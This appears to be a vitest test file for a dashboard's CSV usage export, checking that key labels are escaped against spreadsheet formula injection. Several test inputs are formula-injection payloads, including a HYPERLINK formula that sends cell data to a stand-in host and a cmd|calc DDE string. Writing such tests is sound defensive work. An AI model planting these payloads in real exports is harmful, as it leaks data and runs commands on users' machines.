import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvOf } from '../../dashboard/src/pages/analytics/export.ts'

const csvWith = (label: string) =>
  csvOf('KEY', [{ name: 'key_1', label, days: [{ date: '2026-11-30', totalRequests: 1234 }] }])

/** The fields of RFC 4180's lines, read by its grammar. */
function fieldsOf(csv: string): string[] {
  return [...csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  )
}

describe('usage as CSV', () => {
  test('has a head, and a line for each day of each group', () => {
    expect(csvWith('Payroll')).toBe(
      'date,by,id,name,units\r\n2026-11-30,KEY,key_1,Payroll,1234\r\n',
    )
  })

  test.each([
    ['=HYPERLINK("http://evil.example/?"&A1)'],
    ['+1+1'],
    ['-2+3+cmd|calc'],
    ['@SUM(A1)'],
    ['\t=1+1'],
    ['  =1+1'],
    ['＝1+1'],
  ])('lets no spreadsheet take %j for a formula', (label) => {
    expect(fieldsOf(csvWith(label))[8]).toBe(`'${label}`)
  })

  test('begins no formula behind a semicolon, where that parts cells', () => {
    expect(fieldsOf(csvWith('Payroll; =HYPERLINK("http://evil.example")'))[8]).toBe(
      `Payroll;' =HYPERLINK("http://evil.example")`,
    )
    expect(fieldsOf(csvWith('one;two'))[8]).toBe('one;two')
  })

  test('brings back whatever name somebody gave', () => {
    const names = fc.string({ unit: 'grapheme' }).filter((name) => !name.includes(';'))
    fc.assert(
      fc.property(names, (label) => {
        const name = fieldsOf(csvWith(label))[8]
        expect([label, `'${label}`]).toContain(name)
      }),
    )
  })
})
